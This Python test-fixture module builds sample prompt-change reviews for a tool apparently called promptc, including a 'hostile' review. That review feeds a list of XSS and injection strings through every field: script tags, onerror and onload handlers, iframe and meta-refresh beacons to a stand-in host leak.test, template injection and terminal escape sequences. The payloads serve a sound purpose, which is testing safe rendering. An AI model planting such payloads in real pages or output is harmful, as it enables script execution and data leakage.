"""Reviews made up for tests of how they are shown: an everyday one, a hostile one, a huge one, and one without a change.

A test says what matters to it, `make_review(made(1, "Hi {product}", "Dear {product}", targets=range(3)))`, and everything
else follows: counts, tenants, prompts, labels, plan digests. What stands in `{…}` is a hole.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterable, Sequence
from dataclasses import replace
from typing import Any

from promptc.core.digest import digest_of
from promptc.core.findings import Finding, Place
from promptc.core.manifest import Change
from promptc.core.outline import Class, Hole, Line
from promptc.core.review import ODD_TENANTS_MAX, Cause, Edit, Example, Group, Listed, Moment, Review, plan_digest

PROMPTS = ("classify", "support-reply")
INDUSTRIES = ("finance", "health", "retail")
OWNERS = ("team-classify", "team-support")


def line(text: str) -> Line:
    """Text with `{name}` as holes."""
    pieces = re.split(r"\{([\w. |]+)\}", text)
    return tuple(Hole(piece) if at % 2 else piece for at, piece in enumerate(pieces) if piece)


def lines(text: str) -> tuple[Line, ...]:
    """The same for several lines; none for no text."""
    return tuple(map(line, text.split("\n"))) if text else ()


def targets_of(tenants: Iterable[str], prompts: Sequence[str] = PROMPTS) -> tuple[Change, ...]:
    """Changes of every prompt of tenants, with digests that follow from their names."""
    return tuple(
        Change(
            tenant, prompt, digest_of(f"old {tenant}/{prompt}".encode()), digest_of(f"new {tenant}/{prompt}".encode())
        )
        for tenant in sorted(tenants)
        for prompt in sorted(prompts)
    )


def made(number: int, before: str, after: str, *, targets: Iterable[int], **more: Any) -> Group:
    """A group; `finished` fills in what follows from its targets."""
    plain: dict[str, Any] = {
        "kind": "changed", "change": "text", "where": "system", "context": (None, None), "line": 12, "changed": (),
        "variants": 1, "examples": (), "tenants": 0, "prompts": (), "labels": (), "owners": (), "causes": (),
        "characters": len(after) - len(before), "prefix": 0, "digest": "",
    }  # fmt: skip
    return Group(number, before=lines(before), after=lines(after), targets=tuple(targets), **(plain | more))


def finished(group: Group, targets: Sequence[Change], labels: dict[str, dict[str, str]]) -> Group:
    own = [targets[number] for number in group.targets]
    tenants = sorted({change.tenant for change in own})
    prompts = Counter(change.prompt for change in own)
    keys = sorted({key for tenant in tenants for key in labels[tenant]})
    counts = ((key, Counter(labels[tenant][key] for tenant in tenants if key in labels[tenant])) for key in keys)
    owners = Counter(OWNERS[PROMPTS.index(c.prompt)] for c in own if c.prompt in PROMPTS)
    return replace(
        group, tenants=len(tenants), prompts=tuple(sorted(prompts.items())),
        labels=tuple((key, tuple(sorted(found.items()))) for key, found in counts),
        owners=group.owners or tuple(sorted(owners.items())), digest=plan_digest(own),
        is_odd=len(tenants) <= ODD_TENANTS_MAX and len(tenants) < len({change.tenant for change in targets}),
    )  # fmt: skip


def labels_of(tenants: Iterable[str]) -> dict[str, dict[str, str]]:
    return {
        tenant: {"industry": INDUSTRIES[at % 3], "tier": "gold" if at % 10 == 0 else "standard"}
        for at, tenant in enumerate(sorted(tenants))
    }


def make_review(*groups: Group, targets: Sequence[Change] | None = None, **more: Any) -> Review:
    """A review of groups. Without `targets`, two prompts of as many tenants as the groups' numbers ask for."""
    if targets is None:
        most = max((number for group in groups for number in group.targets), default=-1)
        targets = targets_of(f"tenant-{at:03}" for at in range((most + 2) // 2))
    labels = more.pop("tenant_labels", None) or labels_of({change.tenant for change in targets})
    head = Moment("working tree", "", digest_of(b"head"), len(targets) + 40, 20 + len(targets) // 2)
    plain: dict[str, Any] = {
        "base": replace(head, name="main", commit="4f1c2d9be07a4c55a1e0f3b2c9d8e7f6a5b4c3d2", root=digest_of(b"base")),
        "head": head, "changed": len(targets), "added": 0, "removed": 0, "unchanged": 40, "new": (), "gone": (),
        "broken": (), "edits": (), "findings": (), "stale": (), "characters": sum(g.characters * len(g.targets) for g in groups),
        "prefix": sum(group.prefix for group in groups), "digest": plan_digest(targets), "tenant_labels": labels,
    }  # fmt: skip
    shown = tuple(finished(group, targets, labels) for group in groups)
    return Review(targets=tuple(targets), groups=shown, **(plain | more))


def everyday(tenants: int = 620) -> Review:
    """A wording that reaches all, a tool that gained a member, and two tenants that stand alone."""
    names = [f"{first}-{at:03}" for at in range(tenants // 4) for first in ("acme", "globex", "hartwell", "umbrella")]
    targets = targets_of(names)
    count = len(targets)
    replies = range(1, count, 2)
    refund = (
        "Refunds are possible within 30 days of the purchase.\nSay that {product} never promises a date.",
        "Refunds are possible within 14 days of the purchase, in writing.\nSay that {product} never promises a date by chat.",
    )
    groups = (
        made(1, "", "Never mention the outage of 3 May.", targets=[count - 1], line=31, prefix=1, context=(line("Greet the customer by name."), None),
             causes=(Cause("blocks", "block `closing` of tenant `umbrella-154`", "tenants/umbrella-154.yaml:14"),)),
        made(2, "Answer in {vars.language}.", "Answer in {vars.language}.", targets=[0, 1], variants=2, changed=("vars.language",), line=4,
             causes=(Cause("value", "vars.language", "tenants/acme-000.yaml:6", '"English"', '"English (UK)"'),),
             examples=(Example("acme-000/classify", {"vars.language": ("English", "English (UK)")}),)),
        made(3, 'input.properties.amount.maximum: 50\ninput.required: ["amount"]',
             'input.properties.amount.maximum: 200\ninput.properties.amount.minimum: 1\ninput.required: ["amount", "reason"]', targets=replies, change="interface", where="tool apply_credit", line=0, prefix=count // 2,
             causes=(Cause("tools", "tool `apply_credit`", "sources/tools/apply_credit.yaml:9"),)),
        made(4, *refund, targets=range(count), variants=31, line=18, prefix=count // 2,
             context=(line("── system"), line("Never invent facts about {product}.")),
             causes=(Cause("template", "`sources/fragments/refunds.j2`", "sources/fragments/refunds.j2:7"),
                     Cause("value", "vars.refund_days", "tenants/layers/base.yaml:11", "30", "14"))),
        made(5, "max_tokens: 1000", "max_tokens: 1200", targets=range(0, count, 6),
             change="model", where="config", line=0,
             causes=(Cause("config", "config.max_tokens", "sources/models.yaml:14", "1000", "1200"),)),
        made(6, "Use short sentences.  ", "Use short sentences.", targets=range(0, count, 2), change="whitespace", line=27,
             causes=(Cause("template", "`sources/fragments/tone.j2`", "sources/fragments/tone.j2:3"),)),
    )  # fmt: skip
    stale = Finding(
        "O201", "`blocks.refunds` was written for another text of the block", Place("tenants/globex-003.yaml", 9, 3), "warning",
        "run `promptc rebase globex-003` to see both texts", targets=("globex-003/support-reply",),
    )  # fmt: skip
    return make_review(
        *groups, targets=targets, changed=count - 2, added=2, removed=1, unchanged=3_806, characters=37_234,
        new=(Listed("support-reply", 1, ("umbrella-154/support-reply",)), Listed("classify", 1, ("umbrella-154/classify",))),
        gone=(Listed("upsell", 1, ("acme-009/upsell",)),),
        broken=(Listed("agent", 2, ("globex-001/agent", "globex-002/agent")),),
        edits=(Edit("sources/fragments/refunds.j2", 7, 9, (4,)), Edit("sources/fragments/tone.j2", 3, 4, (6,)),
               Edit("sources/models.yaml", 14, 15, (5,)), Edit("sources/tools/apply_credit.yaml", 9, 14, (3,)),
               Edit("tenants/acme-000.yaml", 6, 7, (2,)), Edit("tenants/umbrella-154.yaml", 14, 17, (1,)),
               Edit("sources/fragments/wording.j2", 2, 2, (), "only a comment went")),
        findings=(stale,), stale=(("team-support", stale),),
        head=Moment("working tree", "", digest_of(b"head"), 5_046, 1_262, ("globex-001/agent", "globex-002/agent")),
    )  # fmt: skip


RUNS = "<script>document.title='RAN';document.documentElement.dataset.ran='yes';fetch('http://leak.test/a')</script>"
HOSTILE = (
    RUNS,
    "</script>" + RUNS + "<!--",
    "--></style></title>" + RUNS,
    '"><img src=http://leak.test/i onerror="document.title=\'RAN\'"><svg onload=document.title=\'RAN\'>',
    "<iframe src=http://leak.test/f></iframe><link rel=stylesheet href=http://leak.test/s>"
    "<style>body{background:url(http://leak.test/b)}</style><meta http-equiv=refresh content='0;url=http://leak.test/m'>",
    "javascript:document.title='RAN' {{constructor.constructor('x')()}} ${document.title='RAN'}",
    "```\n@everyone <!-- hidden --> [a](http://leak.test/l) ![b](http://leak.test/p)",
    "\x1b]0;RAN\x07\x1b[2J\x00\r bell",
    "right\u202eto\u2066left\u200b\u2028\u2029\ufeff\U000e0041",
    "&lt;b&gt; &amp;amp; &#x3c;",
    "x" * 1_000_000 + " the end",
)  # fmt: skip


def hostile() -> Review:
    """Every text that a project decides is an attack: prompts, names, labels, owners, files, messages."""
    tenants = [f"tenant-{at} {text[:200]}" for at, text in enumerate(HOSTILE)]
    targets = targets_of(tenants, [f"prompt {RUNS}"])
    labels = {
        tenant: {f"key {RUNS}": text[:300], "tier": "gold"}
        for tenant, text in zip(sorted(tenants), HOSTILE, strict=True)
    }
    causes = tuple(Cause("value", f"vars.`{text[:300]}`", f"{text[:100]}:3", text, text[::-1]) for text in HOSTILE)
    groups = []
    for number, text in enumerate(HOSTILE, 1):
        example = Example(f"{text[:100]}/p", {text[:50]: (text, text[::-1])})
        groups.append(Group(
            number, "changed", "text", text[:400], ((text, Hole(text[:60])),), ((text, "!", Hole(text[:60])),), ((text,), None), number,
            (text[:60],), 2, (example,), tuple(range(len(targets))), len(tenants), ((text[:300], 1),), ((text[:300], ((text, 1),)),),
            ((text, 1),), causes, 1, 1, plan_digest(targets),
        ))  # fmt: skip
    wrong = tuple(Finding("O201", text, Place(text[:200], 1, 1), "warning", text) for text in HOSTILE)
    return make_review(
        *groups, targets=targets, tenant_labels=labels,
        base=Moment(HOSTILE[0], HOSTILE[1][:40], digest_of(b"base"), 9, 9, HOSTILE),
        head=Moment(HOSTILE[2], HOSTILE[3][:40], digest_of(b"head"), 9, 9, HOSTILE),
        new=tuple(Listed(text[:300], 1, (text,)) for text in HOSTILE), gone=tuple(Listed(text[:300], 1, (text,)) for text in HOSTILE),
        broken=tuple(Listed(text[:300], 1, (text,)) for text in HOSTILE),
        edits=tuple(Edit(text[:300], 1, 2, (1,), text) for text in HOSTILE), findings=wrong,
        stale=tuple((text[:300], finding) for text, finding in zip(HOSTILE, wrong, strict=True)), toolchain=causes, tokenizer=HOSTILE[0],
    )  # fmt: skip


def huge(targets: int = 100_000, groups: int = 10) -> Review:
    """Very many targets in a few groups, some of which hold all of them and some every other one."""
    changes = targets_of(f"tenant-{at:06}" for at in range(targets // 2))
    return make_review(
        *(
            made(n, f"Old sentence {n} of {{product}}.", f"New sentence {n} of {{product}}.", targets=range(0, len(changes), 1 + n % 4),
                 variants=n, change=_class(n), line=n)
            for n in range(1, groups + 1)
        ),
        targets=changes,
    )  # fmt: skip


def _class(number: int) -> Class:
    classes: tuple[Class, ...] = ("text", "interface", "model", "whitespace")
    return classes[number % 4]


def scattered(groups: int = 5_000) -> Review:
    """Very many groups of one target each."""
    return make_review(
        *(made(n, f"Old {n}", f"New {n} " + "word " * 60, targets=[n - 1]) for n in range(1, groups + 1))
    )


def quiet() -> Review:
    """Nothing differs."""
    return make_review(targets=())
